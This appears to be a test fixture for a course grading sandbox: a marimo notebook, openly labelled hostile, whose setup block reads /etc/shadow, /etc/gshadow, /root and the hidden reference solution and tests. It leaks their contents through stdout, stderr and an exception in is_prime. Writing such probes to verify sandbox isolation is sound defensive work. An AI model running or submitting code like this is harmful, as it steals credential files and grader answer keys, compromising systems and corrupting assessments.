# Hostile: reads files outside the staging dir while loading: /etc/shadow, what
# is in /root, and the course's reference solution by absolute path (COURSE; the
# e2e tests rewrite that line with the path of their course copy). Everything it
# gets goes to stdout, stderr and, through is_prime raising it, into the test
# messages. In the sandbox none of it is readable (not the sandbox user's, or
# hidden by firejail), so STOLEN stays empty and the function is correct: 10/10.
import marimo

__generated_with = "0.13.0"
app = marimo.App()

with app.setup:
    import marimo as mo
    import os
    import sys

    COURSE = "/work/main"  # the e2e tests rewrite this line with their course copy's path
    STOLEN = []
    _paths = [
        "/etc/shadow",
        "/etc/gshadow",
        os.path.join(COURSE, "hidden", "cp1-functions", "solution.py"),
        os.path.join(COURSE, "hidden", "cp1-functions", "test_cp1_functions.py"),
    ]
    for _top in ("/root", os.path.join(COURSE, "hidden")):
        try:
            STOLEN.append(_top + ": " + " ".join(sorted(os.listdir(_top))))
        except OSError:
            continue
        for _dir, _subdirs, _files in os.walk(_top):
            _paths += [os.path.join(_dir, _name) for _name in _files]
    for _path in _paths:
        try:
            with open(_path, "rb") as _f:
                STOLEN.append(_path + ":\n" + _f.read(8192).decode("utf-8", "replace"))
        except OSError:
            pass
    if STOLEN:
        print("\n".join(STOLEN))
        print("\n".join(STOLEN), file=sys.stderr)


@app.function
def is_prime(n: int) -> bool:
    if STOLEN:
        raise RuntimeError("\n".join(STOLEN)[:4000])
    return n > 1 and all(n % d for d in range(2, int(n ** 0.5) + 1))


if __name__ == "__main__":
    app.run()
